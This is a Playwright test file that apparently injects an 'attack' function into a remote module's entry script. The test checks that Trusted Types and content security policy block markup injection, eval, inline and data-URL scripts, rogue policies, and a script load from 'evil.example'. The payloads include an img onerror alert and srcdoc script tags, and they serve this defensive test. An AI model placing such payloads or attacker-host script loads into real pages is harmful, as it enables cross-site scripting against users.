import { expect, test } from '../support/test.ts';
import { logIn } from '../support/visitor.ts';

/** Attacks that a remote may try; each records its name and its result in `attacks`. */
function attack(): void {
  const outcomes: Record<string, string> = {};
  const attempt = (name: string, run: () => unknown) => {
    try {
      run();
      outcomes[name] = 'went through';
    } catch (error) {
      outcomes[name] = (error as Error).name;
    }
  };
  const page = globalThis as typeof globalThis & {
    attacks?: object;
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  const load = (address: string) => () => {
    document.createElement('script').src = address;
  };
  const anything = { createHTML: String, createScript: String, createScriptURL: String };
  attempt('markup', () => (document.createElement('div').innerHTML = '<img src="/x" onerror="alert(1)">'));
  attempt('inserted markup', () => document.body.insertAdjacentHTML('beforeend', '<i>x</i>'));
  attempt('document of a frame', () => {
    document.createElement('iframe').srcdoc = '<script>alert(1)</script>';
  });
  attempt('inline script', () => {
    document.createElement('script').text = 'alert(1)';
  });
  attempt('evaluated text', () => (0, eval)('1'));
  attempt('foreign script', load('https://evil.example/x.js'));
  attempt('script of the API', load('/api/profile/player'));
  attempt('script of text', load('data:text/javascript,alert(1)'));
  attempt('own policy', () => page.trustedTypes.createPolicy('mine', anything));
  attempt('second default policy', () => page.trustedTypes.createPolicy('default', anything));
  attempt('chunk of a build', load('/remotes/shop/1.0.0/chunk.js'));
  page.attacks = outcomes;
}

test.use({ allowedViolations: /./ });

test("code of a remote can't create markup from strings, load foreign scripts or create its own policy", async ({
  page,
}) => {
  await page.route('**/remotes/shop/*/remoteEntry.js', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, body: `${await answer.text()}\n;(${attack.toString()})()` });
  });
  await logIn(page, 'player');
  await page.goto('/shop');
  await expect(page.getByRole('heading', { level: 1, name: 'Shop' })).toBeVisible();
  const attacks = await page.evaluate(() => (globalThis as { attacks?: object }).attacks);
  expect(attacks).toEqual({
    markup: 'TypeError',
    'inserted markup': 'TypeError',
    'document of a frame': 'TypeError',
    'inline script': 'TypeError',
    'evaluated text': 'EvalError',
    'foreign script': 'TypeError',
    'script of the API': 'TypeError',
    'script of text': 'TypeError',
    'own policy': 'TypeError',
    'second default policy': 'TypeError',
    'chunk of a build': 'went through',
  });
});
